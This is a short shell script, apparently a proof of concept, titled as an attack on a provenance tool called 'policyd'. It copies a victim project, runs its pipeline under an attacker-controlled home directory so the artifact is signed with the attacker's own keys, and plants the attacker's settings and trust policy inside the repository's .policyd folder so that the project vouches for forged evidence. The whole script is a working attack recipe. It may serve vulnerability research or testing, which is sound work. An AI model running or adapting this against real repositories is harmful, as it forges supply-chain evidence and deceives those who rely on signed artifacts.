#!/bin/sh
# Make a project that vouches for itself: attack.sh VICTIM FOLDER
#   FOLDER/download     an artifact with complete, valid evidence, signed by the attacker's own keys
#   FOLDER/repository   the project, with the attacker's settings and trust policy lying in it
set -eu
victim=$1
folder=$2
unset POLICYD_SETTINGS
export POLICYD_KEY_PASSWORD=
HOME=$folder/attacker
XDG_CONFIG_HOME=$HOME/config XDG_DATA_HOME=$HOME/data XDG_STATE_HOME=$HOME/state
export HOME XDG_CONFIG_HOME XDG_DATA_HOME XDG_STATE_HOME
mkdir -p "$HOME"
cp -r "$victim" "$folder/repository"
cd "$folder/repository"
policyd init > /dev/null
policyd run pipeline.yaml --format json > "$HOME/run.json" 2> "$HOME/run.log"
python3 gather.py "$HOME/run.json" "$XDG_DATA_HOME/policyd/store" "$folder/download"
cp "$XDG_CONFIG_HOME/policyd/settings.yaml" "$XDG_CONFIG_HOME/policyd/trust.yaml" "$folder/download/"
cp "$XDG_CONFIG_HOME/policyd/settings.yaml" "$XDG_CONFIG_HOME/policyd/trust.yaml" .
mkdir .policyd
cp settings.yaml trust.yaml .policyd/
